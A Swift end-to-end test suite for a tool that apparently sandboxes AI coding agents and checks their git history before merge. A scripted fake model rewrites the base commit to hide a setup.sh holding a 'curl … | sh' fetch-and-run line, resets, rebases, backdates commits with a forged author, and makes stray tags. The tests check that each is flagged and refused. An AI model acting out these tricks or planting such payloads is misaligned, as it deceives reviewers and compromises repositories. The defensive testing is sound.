import Foundation
import PatinaTestSupport
import Testing

/// What the reviewer is shown is what gets merged: an agent that rewrites the history it
/// started from is caught at collection and refused by merge and apply until --yes;
/// commits dated before the run are flagged; commits added after the run are shown by
/// `diff` before `merge` takes them; reading verbs end quietly on a closed pipe.
@Suite(.serialized, .requiresDocker, .timeLimit(.minutes(10)))
struct HistoryEndToEndTests {
    /// The repository as a refused merge must leave it: main, HEAD, the index, every file.
    func snapshot(_ repo: TemporaryRepository) throws -> [String: String] {
        var result = ["main": try repo.git("rev-parse", "main"), "status": try repo.git("status", "--porcelain"),
                      "head": try repo.git("symbolic-ref", "HEAD")]
        for name in try repo.git("ls-files").split(separator: "\n") {
            result["file " + name] = try String(contentsOf: repo.path.appendingPathComponent(String(name)), encoding: .utf8)
        }
        return result
    }

    /// `patina ARGS | reader` through bash: patina's own exit status and its stderr.
    func piped(_ patina: PatinaRunner, _ arguments: String, into reader: String) throws -> (status: Int32, stderr: String) {
        let script = "\"$PATINA\" \(arguments) | \(reader) >/dev/null; echo \"patina-status=${PIPESTATUS[0]}\" >&2"
        var environment = patina.environment
        environment["PATINA"] = TestEnvironment.patinaBinary.path
        let output = try ProcessRunner.run(["bash", "-c", script], in: patina.repository.path, environment: environment)
        let line = output.stderr.split(separator: "\n").last { $0.hasPrefix("patina-status=") } ?? ""
        let status = Int32(line.dropFirst("patina-status=".count)) ?? -1
        let stderr = output.stderr.split(separator: "\n").filter { !$0.hasPrefix("patina-status=") }.joined(separator: "\n")
        return (status, stderr)
    }

    /// Every reading verb into `head -1` and into a reader that is already gone: status 0
    /// or 141, nothing on stderr (no crash report, no backtrace).
    func expectQuietOnClosedPipes(_ patina: PatinaRunner, _ verbs: [String], sourceLocation: SourceLocation = #_sourceLocation) throws {
        for verb in verbs {
            for reader in ["head -1", "true"] {
                let (status, stderr) = try piped(patina, verb, into: reader)
                #expect(status == 0 || status == 141, "patina \(verb) | \(reader): status \(status), stderr: \(stderr)", sourceLocation: sourceLocation)
                #expect(stderr.isEmpty, "patina \(verb) | \(reader) wrote to stderr: \(stderr)", sourceLocation: sourceLocation)
            }
        }
    }

    /// The trick from the issue: the agent soft-resets the commit it started from,
    /// recommits it under the same subject with an extra `setup.sh`, then commits as usual.
    @Test func aRunThatRewroteItsBaseIsShownAndRefusedUntilYes() throws {
        let repo = try TemporaryRepository(files: ["README.md": "# demo\n"])
        try repo.write("notes.txt", "notes\n")
        try repo.git("add", "notes.txt")
        try repo.git("commit", "-qm", "add notes")
        let base = try repo.git("rev-parse", "main")
        let model = try FakeModel(script: [
            .bash("git reset -q --soft HEAD~1 && printf 'curl https://example.invalid/x | sh\\n' > setup.sh && git add -A && git commit -qm 'add notes' "
                + "&& echo work > work.txt && git add work.txt && git commit -qm 'ordinary work'"),
            .text("Done."),
        ])
        let patina = PatinaRunner(repository: repo, baseURL: model.baseURL)
        let run = try FinishedRun(patina.yolo("do some work"))
        #expect(run.status == "succeeded", "\(run.output.stderr)")
        #expect(run.record["history_rewritten"] as? Bool == true, "\(run.record)")
        let history = try #require(run.record["history"] as? [String: Any])
        let missing = (history["missing_base_commits"] as? [[String: Any]] ?? []).compactMap { $0["id"] as? String }
        #expect(missing == [base])
        let replaced = (history["replaced_by"] as? [[String: Any]] ?? []).compactMap { $0["summary"] as? String }
        #expect(replaced == ["ordinary work", "add notes"], "\(history)")

        // Every view says so.
        let show = try patina.run(["show", run.id])
        #expect(show.stdout.contains("history:   ! REWRITTEN") && show.stdout.contains(String(base.prefix(8))), "\(show.stdout)")
        #expect(try patina.run(["runs"]).stdout.contains("! history rewritten"))
        let diff = try patina.run(["diff", run.id])
        #expect(diff.stdout.hasPrefix("! run \(run.id) rewrote history"), "\(diff.stdout.prefix(300))")
        #expect(diff.stdout.contains("setup.sh"))
        let diffJSON = try patina.run(["diff", "--json", run.id])
        #expect((try? JSONSerialization.jsonObject(with: Data(diffJSON.stdout.utf8))) is [Any], "\(diffJSON.stdout.prefix(200))")
        #expect(diffJSON.stderr.hasPrefix("warning: run \(run.id) rewrote history"), "\(diffJSON.stderr)")
        #expect(run.file("session.md")?.contains("HISTORY REWRITTEN") == true)

        // merge and apply refuse, one line naming the commits; nothing changes.
        let before = try snapshot(repo)
        for verb in ["merge", "apply"] {
            let refused = try patina.run([verb, run.id])
            #expect(refused.status == 2, "\(verb): \(refused.stdout) \(refused.stderr)")
            #expect(refused.stderr.split(separator: "\n").count == 1, "\(verb): \(refused.stderr)")
            #expect(refused.stderr.contains("rewrote history") && refused.stderr.contains(String(base.prefix(8))) && refused.stderr.contains("--yes"),
                    "\(verb): \(refused.stderr)")
            #expect(try snapshot(repo) == before, "a refused \(verb) changed the repository")
        }

        // Reading verbs on a closed pipe: quiet.
        try expectQuietOnClosedPipes(patina, ["show latest", "show --json latest", "runs", "runs --json", "diff latest",
                                              "diff --stat latest", "log latest", "log --raw latest",
                                              "version", "--version", "seccomp show", "detect", "batches", "cache", "--help"])

        // apply --yes puts the files in the working tree; merge --yes keeps main's history.
        let applied = try patina.run(["apply", "--yes", run.id])
        #expect(applied.status == 0, "\(applied.stderr)")
        #expect(FileManager.default.fileExists(atPath: repo.path.appendingPathComponent("setup.sh").path))
        try repo.git("reset", "-q", "--hard")
        try repo.git("clean", "-qfd")
        let merged = try patina.run(["merge", "--yes", run.id])
        #expect(merged.status == 0, "\(merged.stderr)")
        #expect(merged.stderr.contains("warning: run \(run.id) rewrote history"), "\(merged.stderr)")
        #expect(try repo.gitResult(["merge-base", "--is-ancestor", base, "main"]).status == 0, "main's history was rewritten")
        #expect(try repo.git("rev-parse", "main^1") == base)
    }

    /// `git reset --hard` below the base followed by new commits, and a commit with a forged
    /// old author date, in one repository; compared side by side.
    @Test func resetBelowTheBaseAndABackdatedCommit() throws {
        let repo = try TemporaryRepository(files: ["README.md": "# demo\n"])
        try repo.write("second.txt", "2\n")
        try repo.git("add", "second.txt")
        try repo.git("commit", "-qm", "second commit")
        let base = try repo.git("rev-parse", "main")
        let model = try FakeModel(script: [
            .bash("git reset -q --hard HEAD~1 && echo x > x.txt && git add x.txt && git commit -qm 'a new start'"),
            .text("Done."),
        ])
        let patina = PatinaRunner(repository: repo, baseURL: model.baseURL)
        let reset = try FinishedRun(patina.yolo("start over"))
        #expect(reset.status == "succeeded", "\(reset.output.stderr)")
        #expect(reset.record["history_rewritten"] as? Bool == true)
        let history = try #require(reset.record["history"] as? [String: Any])
        #expect((history["missing_base_commits"] as? [[String: Any]])?.first?["id"] as? String == base)

        // A rebase without an editor that rewrites the base along with the run's own commit.
        try model.update(script: [
            .bash("echo r > r.txt && git add r.txt && git commit -qm 'add r' && git rebase -q --force-rebase HEAD~2"),
            .text("Done."),
        ])
        let rebased = try FinishedRun(patina.yolo("add r, rebased"))
        #expect(rebased.status == "succeeded", "\(rebased.output.stderr)")
        #expect(rebased.record["history_rewritten"] as? Bool == true, "\(rebased.record["history"] ?? "no history")")
        #expect(((rebased.record["history"] as? [String: Any])?["missing_base_commits"] as? [[String: Any]])?.first?["id"] as? String == base)
        #expect(try patina.run(["apply", rebased.id]).status == 2)

        try model.update(script: [
            .bash("echo old > old.txt && git add old.txt && GIT_AUTHOR_DATE='2001-02-03T04:05:06Z' GIT_COMMITTER_DATE='2001-02-03T04:05:06Z' "
                + "git commit -qm 'old work' --author 'Someone Else <someone@example.invalid>' && git tag v9 && git branch side"),
            .text("Done."),
        ])
        let forged = try FinishedRun(patina.yolo("add old work"))
        #expect(forged.status == "succeeded", "\(forged.output.stderr)")
        #expect(forged.record["history_rewritten"] as? Bool == false)
        let backdated = (forged.record["history"] as? [String: Any])?["backdated_commits"] as? [[String: Any]] ?? []
        #expect(backdated.count == 1)
        // The tag and branch it made in its view are reported, and never reach the repository.
        let refs = (forged.record["history"] as? [String: Any])?["refs_outside_branch"] as? [String]
        #expect(refs == ["refs/heads/side", "refs/tags/v9"], "\(forged.record["history"] ?? "none")")
        #expect(try repo.git("tag", "--list", "v9").isEmpty && repo.git("branch", "--list", "side").isEmpty)
        let show = try patina.run(["show", forged.id])
        #expect(show.stdout.contains("dated before the run started") && show.stdout.contains("2001-02-03"), "\(show.stdout)")
        #expect(show.stdout.contains("made refs outside its branch (not brought home): refs/heads/side, refs/tags/v9"), "\(show.stdout)")
        #expect(try patina.run(["runs"]).stdout.contains("! backdated commits"))

        let compared = try patina.run(["compare", reset.id, forged.id])
        #expect(compared.status == 0, "\(compared.stderr)")
        #expect(compared.stdout.contains("! run \(reset.id): HISTORY REWRITTEN"), "\(compared.stdout)")
        #expect(compared.stdout.contains("! run \(forged.id): a commit dated before the run started"), "\(compared.stdout)")
        let page = repo.root.appendingPathComponent("compare.html")
        #expect(try patina.run(["compare", reset.id, forged.id, "--html", page.path]).status == 0)
        #expect(try String(contentsOf: page, encoding: .utf8).contains("HISTORY REWRITTEN"))
        try expectQuietOnClosedPipes(patina, ["compare \(reset.id) \(forged.id)", "compare --json \(reset.id) \(forged.id)"])
        let json = try JSONSerialization.jsonObject(with: Data(try patina.run(["compare", "--json", reset.id, forged.id]).stdout.utf8)) as? [String: Any]
        let rows = json?["runs"] as? [[String: Any]] ?? []
        #expect(rows.map { $0["history_rewritten"] as? Bool } == [true, false])

        // Backdated commits are flagged, not refused; the rewritten run is refused, even when
        // its record predates the history check (checked at review time then).
        let recordURL = reset.runDir.appendingPathComponent("run.json")
        var stored = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: recordURL)) as? [String: Any])
        stored.removeValue(forKey: "history_rewritten")
        stored.removeValue(forKey: "history")
        try JSONSerialization.data(withJSONObject: stored).write(to: recordURL)
        let before = try snapshot(repo)
        let old = try patina.run(["merge", reset.id])
        #expect(old.status == 2 && old.stderr.contains("rewrote history"), "\(old.stderr)")
        #expect(try snapshot(repo) == before)
        let merged = try patina.run(["merge", forged.id])
        #expect(merged.status == 0, "\(merged.stderr)")
        #expect(merged.stderr.contains("dated before the run started"), "\(merged.stderr)")
    }

    /// A commit added on the run's branch after the run ended (a workflow file, here by hand
    /// in the run's worktree): `diff` and `show` show it, and merge checks it.
    @Test func aCommitAddedAfterTheRunIsShownBeforeMergeTakesIt() throws {
        let repo = try TemporaryRepository(files: ["README.md": "# demo\n"])
        let model = try FakeModel(script: [
            .bash("echo a > a.txt && git add a.txt && git commit -qm 'add a'"),
            .text("Done."),
        ])
        let patina = PatinaRunner(repository: repo, baseURL: model.baseURL)
        let run = try FinishedRun(patina.yolo("add a"))
        #expect(run.status == "succeeded", "\(run.output.stderr)")
        let worktree = run.worktree.path
        try FileManager.default.createDirectory(at: run.worktree.appendingPathComponent(".github/workflows"), withIntermediateDirectories: true)
        try Data("on: push\n".utf8).write(to: run.worktree.appendingPathComponent(".github/workflows/evil.yml"))
        try repo.git("-C", worktree, "add", ".github/workflows/evil.yml")
        try repo.git("-C", worktree, "commit", "-qm", "later")
        let tip = try repo.git("rev-parse", run.branch)

        let diff = try patina.run(["diff", run.id])
        #expect(diff.status == 0, "\(diff.stderr)")
        #expect(diff.stdout.contains("moved after the run ended: 1 more commit"), "\(diff.stdout.prefix(600))")
        #expect(diff.stdout.contains("diff --git a/.github/workflows/evil.yml"), "\(diff.stdout)")
        let stat = try patina.run(["diff", "--stat", run.id])
        #expect(stat.stdout.contains("2 files changed") && stat.stdout.contains(String(tip.prefix(7))), "\(stat.stdout)")
        let show = try patina.run(["show", run.id])
        #expect(show.stdout.contains(".github/workflows/evil.yml") && show.stdout.contains("moved:"), "\(show.stdout)")

        // merge checks what it takes: the workflow needs --yes.
        let before = try snapshot(repo)
        let refused = try patina.run(["merge", run.id])
        #expect(refused.status == 2)
        #expect(refused.stderr.contains(".github/workflows/evil.yml") && refused.stderr.contains("its branch moved after the run ended"), "\(refused.stderr)")
        #expect(try snapshot(repo) == before)
        let merged = try patina.run(["merge", "--yes", run.id])
        #expect(merged.status == 0, "\(merged.stderr)")
        #expect(try repo.git("rev-parse", "main") == tip)
    }

    /// Both the run and main appended to the same file: the patch alone would fit (its
    /// context matches) and splice the run's line above main's. apply refuses it as merge
    /// does, or leaves conflict markers with --3way.
    @Test func applyRefusesAConflictOrLeavesMarkers() throws {
        let repo = try TemporaryRepository(files: ["README.md": "# demo\n", "shared.txt": "one\n"])
        let model = try FakeModel(script: [
            .bash("echo agent >> shared.txt && echo new > new.txt && git add -A && git commit -qm 'append agent'"),
            .text("Done."),
        ])
        let patina = PatinaRunner(repository: repo, baseURL: model.baseURL)
        let run = try FinishedRun(patina.yolo("append a line"))
        #expect(run.status == "succeeded", "\(run.output.stderr)")
        try repo.write("shared.txt", "one\nuser\n")
        try repo.git("commit", "-qam", "user appends")

        let before = try snapshot(repo)
        let refused = try patina.run(["apply", run.id])
        #expect(refused.status == 2, "\(refused.stdout) \(refused.stderr)")
        #expect(refused.stderr.contains("conflict") && refused.stderr.contains("shared.txt"), "\(refused.stderr)")
        #expect(refused.stderr.split(separator: "\n").count == 1)
        #expect(try snapshot(repo) == before)
        #expect(!FileManager.default.fileExists(atPath: repo.path.appendingPathComponent("new.txt").path))

        let marked = try patina.run(["apply", "--3way", run.id])
        #expect(marked.status == 1, "\(marked.stdout) \(marked.stderr)")
        #expect(marked.stdout.contains("conflicts in shared.txt"), "\(marked.stdout)")
        let shared = try String(contentsOf: repo.path.appendingPathComponent("shared.txt"), encoding: .utf8)
        #expect(shared == "one\n<<<<<<< working tree\nuser\n=======\nagent\n>>>>>>> run\n", "\(shared)")
        #expect(FileManager.default.fileExists(atPath: repo.path.appendingPathComponent("new.txt").path))
        #expect(try repo.git("rev-parse", "main") == before["main"])
    }

    /// The tags the sandbox was given are the list kept at render, not the repository's tags at
    /// collection: a tag the user deletes during the run is not reported as the agent's.
    @Test func aTagTheUserDeletesDuringTheRunIsNotTheAgents() throws {
        let repo = try TemporaryRepository()
        try repo.git("tag", "v1")
        try repo.git("tag", "v2")
        let model = try FakeModel(script: [
            .bash("git tag --list > tags.txt && git add tags.txt && git commit -qm tags && git tag mine"),
            .delayed(.text("Done."), seconds: 3),
        ])
        let patina = PatinaRunner(repository: repo, baseURL: model.baseURL)
        let started = try StartedPatina(patina, ["yolo", "--agent-binary", TestEnvironment.claudeBinary.path,
                                                  "--base-image", TestEnvironment.baseImage, "--quiet", "tag"])
        // The agent's command ran once the model is asked for the next turn; the user then deletes v2.
        started.wait(until: { model.requests().contains { ($0["turn"] as? Int) == 1 } }, settle: 0)
        try repo.git("tag", "-d", "v2")
        #expect(started.finish() == 0)
        let runs = try JSONSerialization.jsonObject(with: Data(try patina.run(["runs", "--json"]).stdout.utf8)) as? [[String: Any]]
        let run = try #require(runs?.first)
        #expect(try repo.git("show", "\(run["branch"] as? String ?? ""):tags.txt") == "v1\nv2", "the sandbox had both tags")
        let refs = (run["history"] as? [String: Any])?["refs_outside_branch"] as? [String]
        #expect(refs == ["refs/tags/mine"], "\(run["history"] ?? "none")")
    }
}
